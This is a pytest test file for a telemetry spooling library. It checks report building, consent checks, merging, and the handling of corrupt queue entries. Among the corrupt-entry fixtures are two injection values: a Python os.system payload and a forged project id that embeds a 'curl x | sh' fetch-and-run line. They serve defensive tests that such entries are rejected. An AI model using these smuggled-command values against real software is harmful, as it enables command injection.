"""Counts entries: the host queues its counts, the detached sender builds the report the host would have built.

Against a real sender process (``python -I -S``, as the host starts it) and
a real local HTTP server; old-format entries (a built report) drain beside them.
"""

import json
import os
import stat
import time

import pytest

from telly_autoinst import identity, pipeline, sender, spool
from telly_autoinst._http import Outcome
from telly_autoinst.report import assemble, encode
from telly_autoinst.settings import project_settings
from tests.support.loopback import Loopback
from tests.support.schema import validate_report
from tests.test_sender import _run_sender


@pytest.fixture(autouse=True)
def clean_env(monkeypatch, tmp_path):
    for var in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy",
                "TELLY_DISABLE", "DO_NOT_TRACK", "TELLY_OPTIN", "TELLY_DEBUG", "TELLY_SPOOL_DIR"):
        monkeypatch.delenv(var, raising=False)
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
    # The user's side of plain-text Level II, as _capture() says: the sender checks it again.
    monkeypatch.setenv("TELLY_LEVEL2_PLAINTEXT", "1")
    identity.salt.cache_clear()
    yield
    identity.salt.cache_clear()


def _project(project_id="proj-1", **table):
    # requests is installed with its dependencies, so the sender has versions to look up.
    return project_settings({"project_id": project_id, "level2": True, "level2_plaintext": True, **table}, "test",
                            default_packages=("requests",), environ={}, user_config={})


def _capture(project_id="proj-1", **kwargs):
    return pipeline.capture(_project(project_id), {"requests.get": 3, "requests.Session": 1, "requests.post": 0},
                            trigger="signal", exit_signal=15, salt_type="random_uuid4",
                            interpreter={"implementation": "cpython", "version": "3.11.9", "mode": "script"},
                            plaintext_accepted=True, **kwargs)


def _losses(directory):
    path = directory / "losses.log"
    return [line.split()[1:] for line in path.read_text().splitlines()] if path.exists() else []


def test_counts_entry_is_private_and_names_its_kind(tmp_path):
    directory = tmp_path / "spool"
    captured = _capture()
    name = pipeline.enqueue_counts(str(directory), "http://c", "proj-1", captured)
    assert spool.entries(str(directory)) == [name]
    assert name.endswith(f"-{captured['report_id']}.counts") and spool.is_counts(name)
    assert stat.S_IMODE(os.stat(directory).st_mode) == 0o700
    assert stat.S_IMODE(os.stat(directory / name).st_mode) == 0o600
    entry = spool.read_counts(str(directory), name)
    assert entry == {"url": "http://c", "project_id": "proj-1", "optin": False, "captured": captured}


def test_sender_builds_exactly_the_report_the_host_would_have(tmp_path):
    directory = tmp_path / "spool"
    captured = _capture()
    captured["created_at"] = 1_700_000_000.5  # the host's exit time, not the sender's
    expected = assemble(captured)  # what the host builds itself (TELLY_SHOW_ME, http, file)
    assert expected["created_at"] == "2023-11-14T22:13:20Z"
    assert expected["level2"]["user"] and expected["packages"] and expected["level2_plaintext"]["home"]
    pipeline.enqueue_counts(str(directory), "BASE", "proj-1", captured)
    with Loopback([200]) as server:
        (directory / spool.entries(str(directory))[0]).write_bytes(
            (directory / spool.entries(str(directory))[0]).read_bytes().replace(b"BASE", server.url.encode()))
        child = _run_sender(directory, "2.0", "60")
        assert child.wait(timeout=60) == 0, child.stderr.read()
        (received,) = server.received
    assert received.path == "/api/v1/reports"
    # Same facts, same Level II hashes, same report id, same bytes.
    assert received.body == encode(expected)
    validate_report(json.loads(received.body))
    assert spool.entries(str(directory)) == [] and _losses(directory) == []


@pytest.mark.parametrize("env, config, expected", [
    ({}, "", {"hashes", "plain"}),
    ({"TELLY_LEVEL2_PLAINTEXT": None}, "", {"hashes"}),  # a forged entry's claim alone is not enough
    ({"TELLY_LEVEL2_PLAINTEXT": None}, "accept_level2_plaintext = true\n", {"hashes", "plain"}),
    ({"TELLY_LEVEL2_PLAINTEXT": "0"}, "accept_level2_plaintext = true\n", {"hashes"}),
    ({"TELLY_INCLUDE_LEVEL2": "0"}, "", set()),
    ({}, '[project."proj-1"]\nlevel2 = false\n', set()),
])
def test_level2_of_a_counts_entry_needs_the_users_agreement_at_send_time(tmp_path, monkeypatch, env, config,
                                                                         expected):
    for name, value in env.items():
        if value is None:
            monkeypatch.delenv(name)
        else:
            monkeypatch.setenv(name, value)
    (tmp_path / "home" / ".config" / "telly_autoinst").mkdir(parents=True)
    (tmp_path / "home" / ".config" / "telly_autoinst" / "config.toml").write_text(config)
    directory = tmp_path / "spool"
    pipeline.enqueue_counts(str(directory), "http://c", "proj-1", _capture())  # claims both agreements
    sent = []

    def post(url, body, timeout, deadline=None):
        sent.append(json.loads(body))
        return Outcome(True)

    assert _drain_with(directory, post) == (1, 0)
    (report,) = sent
    got = {"hashes"} if report["level2"] else set()
    assert got | ({"plain"} if "level2_plaintext" in report else set()) == expected


def test_collector_accepts_a_report_built_by_the_sender(tmp_path):
    """The collector's own validation of a report built from counts (not only the published schema)."""
    ingest = pytest.importorskip("telly_autoinst_collector.ingest")
    directory = tmp_path / "spool"
    pipeline.enqueue_counts(str(directory), "http://c", "proj-1", _capture())
    sent = []

    def post(url, body, timeout, deadline=None):
        sent.append(body)
        return Outcome(True)

    assert _drain_with(directory, post) == (1, 0)
    (body,) = sent
    doc = ingest.parse_json(body)
    ingest.validate_v1(doc)  # raises Rejected(422) otherwise
    contribution = ingest.contribution_v1(doc)
    assert contribution.project_id == "proj-1" and contribution.stats == {"requests.Session": 1, "requests.get": 3}


def _drain_with(directory, post):
    real = sender.post
    sender.post = post
    try:
        return sender.drain(str(directory))
    finally:
        sender.post = real


def test_old_and_new_entries_drain_oldest_first(tmp_path):
    directory = tmp_path / "spool"
    with Loopback([200]) as server:
        old_body = b'{\n  "from": "an older client"\n}\n'
        spool.enqueue(str(directory), server.url + "/api/v1/reports", "old-proj", old_body, "a" * 32)
        captured = _capture("new-proj")
        pipeline.enqueue_counts(str(directory), server.url, "new-proj", captured)
        spool.enqueue(str(directory), server.url + "/api/v1/reports", "old-proj", old_body, "b" * 32)
        assert sender.drain(str(directory)) == (3, 0)
        bodies = [r.body for r in server.received]
    assert bodies == [old_body, encode(assemble(captured)), old_body]
    assert spool.entries(str(directory)) == [] and _losses(directory) == []


CORRUPT = {
    "garbage": b"\x00\xff\x13not at all",
    "no magic": b"{'url': 'http://c'}",
    "truncated": None,  # a real entry cut in half
    "not a literal": b"telly-counts 1\n__import__('os').system('false')",
    "a list": b"telly-counts 1\n[1, 2]",
    "no url": b"telly-counts 1\n{'project_id': 'p', 'optin': False, 'captured': {}}",
    "captured missing keys": (b"telly-counts 1\n"
                              b"{'url': 'http://c', 'project_id': 'proj-1', 'optin': False, 'captured': {}}"),
    "stats not counts": None,  # a real entry with a string count
    "forged project id": None,  # a real entry naming no project: a line of shell where the id goes
    "deeply nested": b"telly-counts 1\n" + b"[" * 100000 + b"]" * 100000,
}


@pytest.mark.parametrize("kind", sorted(CORRUPT))
def test_corrupt_counts_entry_is_dropped_and_recorded(tmp_path, kind):
    directory = tmp_path / "spool"
    captured = _capture()
    pipeline.enqueue_counts(str(directory), "http://c", "proj-1", captured)
    (name,) = spool.entries(str(directory))
    raw = (directory / name).read_bytes()
    data = CORRUPT[kind]
    if kind == "truncated":
        data = raw[: len(raw) // 2]
    elif kind == "stats not counts":
        data = raw.replace(b"'requests.get': 3", b"'requests.get': '3'")
        assert data != raw
    elif kind == "forged project id":
        data = raw.replace(b"'project_id': 'proj-1'", b"'project_id': 'evil\\ncurl x | sh #'", 1)
        assert data != raw
    (directory / name).write_bytes(data)
    with Loopback([200]) as server:
        good = _capture("good")
        time.sleep(0.001)
        pipeline.enqueue_counts(str(directory), server.url, "good", good)
        assert sender.drain(str(directory)) == (2, 0)
        assert [r.body for r in server.received] == [encode(assemble(good))]
    assert spool.entries(str(directory)) == []
    assert _losses(directory) in ([["spool-corrupt", "None"]], [["spool-corrupt", "proj-1"]])


def test_counts_of_a_project_opted_out_since_are_dropped_unbuilt(tmp_path, monkeypatch):
    directory = tmp_path / "spool"
    pipeline.enqueue_counts(str(directory), "http://c", "proj-1", _capture())
    pipeline.enqueue_counts(str(directory), "http://c", "proj-2", _capture("proj-2"), optin=True)
    (tmp_path / "home" / ".telly_optout").write_text("PROJ-1\n")
    built = []
    monkeypatch.setattr("telly_autoinst.report.assemble", lambda captured: built.append(captured))
    assert sender.drain(str(directory)) == (2, 0)
    assert built == [] and spool.entries(str(directory)) == []
    assert _losses(directory) == [["opted-out", "proj-1"], ["opted-out", "proj-2"]]


def test_a_build_that_fails_drops_that_entry_only(tmp_path, monkeypatch):
    directory = tmp_path / "spool"
    pipeline.enqueue_counts(str(directory), "http://c", "proj-1", _capture())

    def broken(captured):
        raise OSError("disk on fire")

    monkeypatch.setattr("telly_autoinst.report.assemble", broken)
    assert sender.drain(str(directory)) == (1, 0)
    assert _losses(directory) == [["build-error:OSError", "proj-1"]]


def test_a_report_left_by_a_killed_sender_is_sent_once(tmp_path):
    """Killed between writing the built report and removing its counts: the report is not built again."""
    directory = tmp_path / "spool"
    captured = _capture()
    pipeline.enqueue_counts(str(directory), "http://c", "proj-1", captured)
    (name,) = spool.entries(str(directory))
    report_name = name[: -len(".counts")] + ".report"
    spool.enqueue(str(directory), "http://c/api/v1/reports", "proj-1", b"{}\n", "x")
    os.replace(directory / spool.entries(str(directory))[-1], directory / report_name)
    sent = []
    assert _drain_with(directory, lambda url, body, timeout, deadline=None: sent.append(body)
                       or Outcome(True)) == (1, 0)
    assert sent == [b"{}\n"] and spool.entries(str(directory)) == []


def test_caps_count_counts_entries_and_record_their_project(tmp_path, monkeypatch):
    monkeypatch.setattr(spool, "MAX_FILES", 2)
    directory = str(tmp_path / "spool")
    for i in range(3):
        pipeline.enqueue_counts(directory, "http://c", f"p{i}", _capture(f"p{i}"))
    # The host leaves the caps to the senders (pipeline.hand_off): each enforces them as it takes the spool.
    assert [(project, reason) for _name, project, reason in spool.enforce_caps(directory)] == [
        ("p0", "spool-full-count")]
    assert len(spool.entries(directory)) == 2


def test_show_lists_queued_counts_as_the_report_the_sender_will_build(tmp_path):
    from telly_autoinst.preview import preview

    directory = tmp_path / "spool"
    captured = _capture()
    pipeline.enqueue_counts(str(directory), "http://c", "proj-1", captured)
    queued = preview(environ={"TELLY_SPOOL_DIR": str(directory)})["queued"]
    assert [(q["url"], q["attempts"]) for q in queued] == [("http://c/api/v1/reports", 0)]
    assert queued[0]["report"] == assemble(captured)


def _queued_runs(directory, url, runs, **changes):
    """Counts of ``runs`` runs of one program, queued as hosts queue them; returns their captured data."""
    captureds = []
    for i in range(runs):
        captured = dict(_capture(), **changes)
        captured["stats"] = {"requests.get": i + 1, f"requests.run{i}": 1}
        pipeline.enqueue_counts(str(directory), url, "proj-1", captured)
        captureds.append(captured)
    return captureds


def test_counts_of_many_runs_leave_as_one_report_with_their_sums(tmp_path):
    directory = tmp_path / "spool"
    with Loopback([200]) as server:
        captureds = _queued_runs(directory, server.url, 4)
        assert sender.drain(str(directory)) == (1, 0)
        (received,) = server.received
    sent = json.loads(received.body)
    assert sent["stats"] == {"requests.get": 10, "requests.run0": 1, "requests.run1": 1, "requests.run2": 1,
                             "requests.run3": 1}
    assert sent["report_id"] == captureds[0]["report_id"]  # the oldest's id: a retry is still one report
    validate_report(sent)
    assert spool.entries(str(directory)) == [] and _losses(directory) == []


@pytest.mark.parametrize("change", [
    {"level2": False},  # no Level II id: each report is its own user at the collector
    {"created_at": 86400.0 * 20000},  # another UTC day
    {"trigger": "exit"},
    {"interpreter": {"implementation": "cpython", "version": "3.12.1", "mode": "script"}},
])
def test_counts_the_collector_would_tell_apart_are_not_merged(tmp_path, change):
    directory = tmp_path / "spool"
    with Loopback([200]) as server:
        _queued_runs(directory, server.url, 2)
        _queued_runs(directory, server.url, 1, **change)
        assert sender.drain(str(directory)) == (2, 0)
        bodies = sorted(json.loads(r.body)["stats"]["requests.get"] for r in server.received)
    assert bodies == [1, 3]


def test_reports_without_level2_are_never_merged(tmp_path):
    directory = tmp_path / "spool"
    with Loopback([200]) as server:
        _queued_runs(directory, server.url, 3, level2=False)
        assert sender.drain(str(directory)) == (3, 0)
        assert len(server.received) == 3


def test_a_merge_cut_short_counts_nothing_twice(tmp_path):
    """A sender stopped between writing the merged entry and removing its parts: the next one sends the sums once."""
    directory = tmp_path / "spool"
    _queued_runs(directory, "http://unused", 3)
    names = spool.entries(str(directory))
    entries = [spool.read_counts(str(directory), name) for name in names]
    merged = dict(entries[0], captured=dict(entries[0]["captured"], stats={"requests.get": 6}))
    # As merge_counts leaves it when stopped right after writing: the merged entry and its parts.
    spool.write_atomic(str(directory / names[0]), b"telly-counts 1\n" + ascii(dict(merged, merged=names[1:])).encode())
    sent = []

    def post(url, body, timeout, deadline=None):
        sent.append(json.loads(body))
        return Outcome(True)

    assert _drain_with(directory, post) == (1, 0)
    assert [report["stats"] for report in sent] == [{"requests.get": 6}]
    assert spool.entries(str(directory)) == []
